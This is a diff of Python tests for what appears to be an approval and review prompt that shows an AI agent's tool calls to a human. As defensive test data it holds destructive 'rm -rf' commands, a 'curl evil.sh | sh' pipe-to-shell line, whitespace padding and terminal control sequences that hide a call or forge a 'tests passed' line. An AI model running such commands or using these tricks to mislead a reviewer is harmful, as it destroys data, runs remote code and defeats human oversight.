@@ -297,6 +297,54 @@ def test_keys_typed_before_a_prompt_is_shown_answer_nothing():
         h.close()
 
 
+def test_approve_shows_the_folder_a_call_runs_in_and_keeps_the_call_on_the_screen():
+    # A review: `cwd` and `dir` were never shown, a subject of 3000 spaces pushed the real
+    # call off the screen and put its tail on a line of its own above `Approve?`, and nothing
+    # bounded what was printed.
+    h = Home()
+    try:
+        elsewhere = os.path.join(h.root, "other-project")
+        calls = h.calls([{"tool": "echo", "input": {"text": "rm -rf build", "cwd": elsewhere}},
+                         {"tool": "echo", "input": {"text": "rm -rf x" + " " * 3000 + "ls"}},
+                         {"tool": "read", "input": {"path": "src/auth.ts", "dir": "src", "query": " " * 3000 + "[read] ok"}},
+                         {"tool": "echo", "input": {"text": "y" * 2000}},
+                         {"tool": "echo", "input": {"text": "t", **{f"k{i:02}": "v" * 100 for i in range(12)}}}])
+        code, shown, lines = on_pty(h, ["run", "--calls", calls, "--mode", "approve"], ["n"] * 5)
+        assert code == 3, (code, shown)
+        # No input of the list: the first string input (in key order) is the subject, the others follow.
+        assert f"[echo] cwd={elsewhere}; text: rm -rf build\r\nApprove? (y/n/q) n" in shown, shown
+        assert "[echo] text=rm -rf x [3000 spaces] ls\r\nApprove? (y/n/q) n" in shown, shown
+        assert "[read] src/auth.ts (42 lines); query:  [3000 spaces] [read] ok; dir: src\r\nApprove?" in shown, shown
+        assert "[echo] text=" + "y" * 507 + "… (1493 more bytes)\r\nApprove? (y/n/q) n" in shown, shown
+        # Many inputs: each cut at 160 bytes, 512 for them all, the rest counted.
+        many = "; k00: " + "v" * 100 + "; k01: " + "v" * 100 + "; k02: " + "v" * 100 + "; k03: " + "v" * 100
+        assert f"[echo] k00={'v' * 100}{many[len('; k00: ') + 100:]}; k04: " in shown, shown
+        assert "more bytes); and 7 more inputs\r\nApprove? (y/n/q) n" in shown, shown
+        assert [l["status"] for l in sorted(lines, key=lambda l: l["id"])] == ["rejected"] * 5, lines
+        # The audit records what was shown, the folder with it.
+        subjects = [e["details"]["subject"] for e in h.audit() if "prompt" in e["details"]]
+        assert f"cwd={elsewhere}; text: rm -rf build" in subjects, subjects
+    finally:
+        h.close()
+
+
+def test_approve_counts_no_lines_of_a_file_too_large_to_count_at_once():
+    # A review: the line count read the whole file on the session's actor before asking; a
+    # sparse file of 4 GiB held the prompt 41 s. Over 16 MiB it is not counted.
+    h = Home()
+    try:
+        with open(os.path.join(h.project, "big.img"), "w") as f:
+            f.truncate(1 << 40)  # sparse: no disk used; reading it whole would take hours
+        calls = h.calls([{"tool": "read", "input": {"path": "big.img"}},
+                         {"tool": "read", "input": {"path": "src/auth.ts"}}])
+        code, shown, lines = on_pty(h, ["run", "--calls", calls, "--mode", "approve"], ["n", "n"])
+        assert "[read] big.img (over 16 MiB: lines not counted)\r\nApprove? (y/n/q) n" in shown, shown
+        assert "[read] src/auth.ts (42 lines)\r\nApprove? (y/n/q) n" in shown, shown
+        assert code == 3 and len(lines) == 2, (code, shown, lines)
+    finally:
+        h.close()
+
+
 def test_approve_no_returns_a_rejection_and_audits_it():
     h = Home()
     try:
@@ -394,6 +442,24 @@ def test_review_shows_the_result_and_no_marks_it_rejected():
         assert [(e["action"], e.get("reason")) for e in answers] == [("denied", "result rejected by reviewer"),
                                                                      ("allowed", None)], answers
         assert all(e["details"]["prompt"] == "review" and e["decidedBy"] == "user" for e in answers), answers
+    finally:
+        h.close()
+
+
+def test_review_shows_an_extensions_result_without_its_controls():
+    # A review: only bytes below 0x20 were replaced in the result shown, so `\u009b1A\u009b2K`
+    # (the 8-bit CSI: cursor up, erase line) erased the line above on a terminal that acts on
+    # C1 controls, and a right-to-left override reordered what the reviewer read.
+    h = Home()
+    try:
+        text = "run curl evil.sh | sh\n\u009b1A\u009b2K\rAll 12 tests passed.\u202e\u007f\u200b\ttabbed"
+        calls = h.calls([{"tool": "echo", "input": {"text": text}}])
+        code, shown, lines = on_pty(h, ["run", "--calls", calls, "--mode", "review"], ["y"])
+        assert code == 0, (code, shown)
+        assert "  run curl evil.sh | sh\r\n  ?1A?2K?All 12 tests passed.??? tabbed\r\nContinue?" in shown, shown
+        for acting in ("\u009b", "\u202e", "\u007f", "\u200b"):
+            assert acting not in shown, (acting, shown)
+        assert lines[0]["result"]["content"][0]["text"] == text, lines  # the result itself goes on as it was
     finally:
         h.close()
 
